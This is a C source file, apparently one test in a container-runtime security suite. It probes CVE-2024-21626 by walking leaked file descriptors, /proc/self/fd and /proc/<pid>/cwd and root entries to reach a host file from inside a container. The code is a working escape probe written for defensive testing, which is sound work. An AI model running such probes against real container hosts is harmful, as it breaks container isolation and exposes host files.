/* CVE-2024-21626: descriptors and the working directory of whoever started the runtime. The suite starts it in a directory of the host, with descriptors of host directories and files open. */
#include "attack.h"
static void look(const char *how, int dir) {
    char path[128] = "";
    for (int up = 0; up < 12; up++) {
        snprintf(path + strlen(path), 8, "%s", up ? "../" : "./");
        char file[160];
        snprintf(file, sizeof file, "%s" HOSTS, path);
        struct stat s;
        if (fstatat(dir, file, &s, 0) == 0) { won("%s: found %s", how, file); return; }
    }
}
static void attack(void) {
    char path[64];
    look("working directory", AT_FDCWD);
    for (int fd = 0; fd < 1024; fd++) {
        if (fd > 2 && fcntl(fd, F_GETFD) != -1) won("descriptor %d is open", fd);
        look("descriptor", fd);
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        if (chdir(path) == 0) { look("changed to a descriptor", AT_FDCWD); MUST(chdir("/")); }
    }
    for (int pid = 1; pid < 50; pid++) {
        const char *names[] = {"cwd", "root", "task/1/cwd", "task/1/root"};
        for (int i = 0; i < 4; i++) {
            snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
            int dir = open(path, O_PATH | O_CLOEXEC);
            if (dir >= 0) { look(path, dir); close(dir); }
        }
    }
}
static void twin(void) {
    char cwd[64];
    int dir = MUST(open("/usr", O_PATH | O_DIRECTORY | O_CLOEXEC));
    if (!getcwd(cwd, sizeof cwd) || faccessat(dir, "bin/true", F_OK, 0)) exit(4);
}
